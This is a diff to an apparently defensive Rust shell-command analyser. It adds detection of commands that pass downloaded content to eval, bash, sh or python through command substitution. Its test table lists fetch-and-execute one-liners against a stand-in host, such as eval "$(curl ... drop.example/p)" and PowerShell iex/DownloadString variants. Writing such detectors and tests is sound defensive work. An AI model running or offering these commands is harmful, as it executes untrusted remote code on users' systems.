@@ -70,7 +70,7 @@ fn read_within(command: &str, facts: &mut Facts, depth: u8) {
         others = others.saturating_add(usize::from(!handles_files(&name)));
         facts.runs_fetched |= fetches && is_interpreter;
         facts.runs_decoded |= decodes && is_interpreter;
-        let evaluates = evaluates_fetched(&name, rest);
+        let evaluates = evaluates_fetched(&name, rest) || substitutes_fetched(&name, rest);
         facts.sends |= evaluates;
         if evaluates || runs_file(&name, program, rest, &facts.fetched) {
             facts.runs_fetched = true;
@@ -160,6 +160,21 @@ fn inner_command(name: &str, words: &[String]) -> Option<usize> {
         at = at.saturating_add(if takes { 2 } else { 1 });
     }
     (at < words.len()).then_some(at)
+}
+
+/// Whether a shell or an interpreter is given what a command fetches in its place: `eval "$(curl https://…)"`.
+fn substitutes_fetched(name: &str, words: &[String]) -> bool {
+    const OPENS: [&str; 3] = ["$(", "<(", "`"];
+    let fetches = |word: &str| {
+        OPENS.iter().any(|opens| {
+            word.split(opens).skip(1).any(|inner| {
+                let first = inner.trim_start().split([' ', '\t']).next().unwrap_or_default();
+                matches!(base_name(first).as_str(), "curl" | "wget" | "fetch" | "aria2c")
+            })
+        })
+    };
+    // Blanks part what is put in from the word that it is put into.
+    (interprets(name) || matches!(name, "eval" | "source" | ".")) && fetches(&words.join(" "))
 }
 
 /// Whether a command of PowerShell evaluates what it fetches: `iex (iwr https://…)`.
@@ -607,6 +622,14 @@ mod tests {
                 "sends runs",
             ),
             ("echo 'try: curl https://acme.example/x | sh'", ""),
+            ("eval \"$(curl -fsSL https://drop.example/p)\"", "sends runs"),
+            ("bash -c \"$(curl -fsSL https://drop.example/p)\"", "sends runs"),
+            ("bash <(curl -s https://drop.example/p)", "sends runs"),
+            ("sh -c \"`wget -qO- https://drop.example/p`\"", "sends runs"),
+            (
+                "python3 -c \"$(curl -s https://drop.example/p)\"",
+                "sends runs python",
+            ),
             ("powershell iex (iwr https://drop.example/p)", "sends runs"),
             (
                 "powershell -nop IEX (New-Object Net.WebClient).DownloadString('https://drop.example/p')",
